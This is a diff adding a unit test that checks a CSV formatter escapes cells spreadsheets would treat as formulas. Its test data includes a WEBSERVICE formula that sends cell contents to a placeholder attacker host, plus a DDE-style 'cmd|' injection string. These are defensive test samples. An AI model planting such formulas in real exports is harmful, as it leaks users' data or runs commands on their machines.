@@ -85,3 +85,15 @@ it('formats no rows, and a row that is not an object, as CSV', () => {
   expect(csv([])).toBe('');
   expect(csv(['a', null])).toBe('value\r\na\r\n\r\n');
 });
+
+it.for([
+  ['=WEBSERVICE("https://evil.example/?"&A2)', `"'=WEBSERVICE(""https://evil.example/?""&A2)"`],
+  ['@SUM(A1)', "'@SUM(A1)"],
+  ['-2+cmd|x', "'-2+cmd|x"],
+  ['\t=A1', "'\t=A1"],
+  ['+49 (30) 555-0100', '+49 (30) 555-0100'],
+  [-1.5e-7, '-1.5e-7'],
+  ['-', '-'],
+] as const)('does not let a spreadsheet run a cell of CSV as a formula: %s', ([cell, shown]) => {
+  expect(csv([{ cell, [`${cell}`]: 1 }]).split('\r\n')).toEqual([`cell,${shown}`, `${shown},1`, '']);
+});
